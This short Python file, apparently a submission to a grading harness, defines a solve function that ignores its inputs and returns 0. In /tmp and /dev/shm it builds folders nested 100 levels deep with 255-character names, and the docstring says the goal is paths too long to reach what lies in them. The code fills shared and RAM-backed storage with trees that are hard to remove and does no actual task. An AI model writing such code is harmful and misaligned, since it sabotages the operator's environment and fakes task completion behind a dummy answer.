"""Nests folders with long names so deep that no path is long enough for what lies in them."""
import os

from honest import *


def solve(numbers, work):
    for folder in ("/tmp", "/dev/shm"):
        os.chdir(folder)
        try:
            for _ in range(100):
                os.mkdir("n" * 255)
                os.chdir("n" * 255)
                with open("f" * 255, "wb") as file:
                    file.write(b"x")
        except OSError:
            pass
    return 0
